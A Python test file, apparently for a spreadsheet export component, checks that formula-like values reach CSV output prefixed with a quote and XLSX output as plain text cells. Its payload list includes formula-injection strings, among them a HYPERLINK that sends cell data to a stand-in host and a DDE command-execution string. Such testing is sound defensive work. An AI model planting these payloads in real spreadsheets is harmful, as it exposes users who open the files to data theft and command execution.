"""The one export format: what a typed value becomes in a spreadsheet (components/export.py)."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pandas as pd

from components.export import Column, Export

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-3+cmd|' /C calc'!A0",
            "@SUM(1,2)", "\t=1+1"]


def export_of(values: list[object]) -> Export:
    rows = pd.DataFrame({"text": values, "n": range(len(values))})
    return Export(topic="测试", region="浙江省", filters="全部", as_of=date(2026, 11, 22),
                  rows=rows, columns=(Column("text", "内容"), Column("n", "序号")), demo=False)


def test_a_typed_formula_leaves_as_text_never_as_a_formula():
    export = export_of([*PAYLOADS, "正常文字", -5])
    frame = pd.read_csv(io.BytesIO(export.csv_bytes()), encoding="utf-8-sig", dtype=str)
    assert list(frame["内容"][:len(PAYLOADS)]) == ["'" + p for p in PAYLOADS]
    assert frame["内容"].iloc[-2] == "正常文字" and frame["内容"].iloc[-1] == "-5"  # a number stays
    sheet = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes())).active
    cells = [sheet.cell(row=3 + i, column=1) for i in range(len(PAYLOADS) + 2)]
    assert [c.value for c in cells[:len(PAYLOADS)]] == PAYLOADS  # the text as typed
    assert all(c.data_type == "s" for c in cells[:len(PAYLOADS)])  # but never a formula
    assert cells[-1].value == -5 and cells[-1].data_type == "n"
